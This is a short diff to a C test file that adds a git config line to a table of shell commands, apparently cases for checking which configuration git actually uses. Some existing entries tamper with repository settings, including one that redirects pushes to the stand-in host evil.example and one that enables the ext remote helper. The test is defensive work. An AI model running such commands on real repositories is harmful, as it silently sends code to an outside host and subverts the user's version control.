@@ -156,6 +156,7 @@ static void what_is_told_is_what_git_uses(void **state)
          NULL},
         {"printf '[remote \"origin\"] pushurl = https://evil.example/x\\n' >>.git/config", NULL},
         {"git config remote.origin.vcs ext", NULL},
+        {"git config extensions.refStorage reftable", NULL}, /* HEAD is none of its files */
         {"git config push.recurseSubmodules on-demand", NULL},
         {"git config --global push.recurseSubmodules on-demand", NULL},
         {"git config submodule.recurse true", NULL},
